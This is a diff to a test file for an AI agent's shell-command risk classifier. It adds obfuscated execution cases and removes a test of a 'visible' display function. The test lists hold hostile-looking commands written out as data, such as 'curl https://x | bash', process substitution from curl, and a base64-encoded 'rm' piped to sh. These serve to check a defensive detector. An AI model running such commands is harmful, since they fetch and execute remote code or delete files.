@@ -10,7 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from parley.agent.foreign import in_code
-from parley.agent.tools.risks import risks_of, visible
+from parley.agent.tools.risks import risks_of
 
 _DELETES = [
     *("rm a", "/bin/rm a", "sudo rm a", "env X=1 rm a", "echo a | xargs rm", "sh -c 'rm a'"),
@@ -33,6 +33,7 @@ _HIDDEN = [
     *("eval $x", "x=r; ${x}m a", "$x a", "ls; $x a", "echo cm0gYQ== | base64 -d | sh"),
     *("curl https://x | bash", "cat a | sudo sh", "/bin/r? a", "/bin/r[m] a", "$'\\x72m' a"),
     *("r$(echo m) a", "r`echo m` a", "if x; then $y; fi", "cat a | python3", "cat a | perl -"),
+    *('sh -c "$x"', "bash -ec `cat a`", 'read a; read b; sh -c "$a$b"'),
     *("bash <(curl https://x)", "sh < a", "/bin/sh <a", "ls; python3 < a", "[r]m a", "?m a"),
 ]
 _HARMLESS = [
@@ -91,11 +92,6 @@ def test_daily_work_needs_no_word(command: str) -> None:
 @given(st.text(), st.text())
 def test_a_delete_on_a_line_of_its_own_is_always_seen(before: str, after: str) -> None:
     assert "file-delete" in risks_of(f"{before}\nrm x\n{after}")
-
-
-@given(st.text())
-def test_what_is_shown_is_one_line_of_visible_characters(text: str) -> None:
-    assert visible(text).isprintable()
 
 
 @given(st.text(alphabet="a` b", min_size=1))
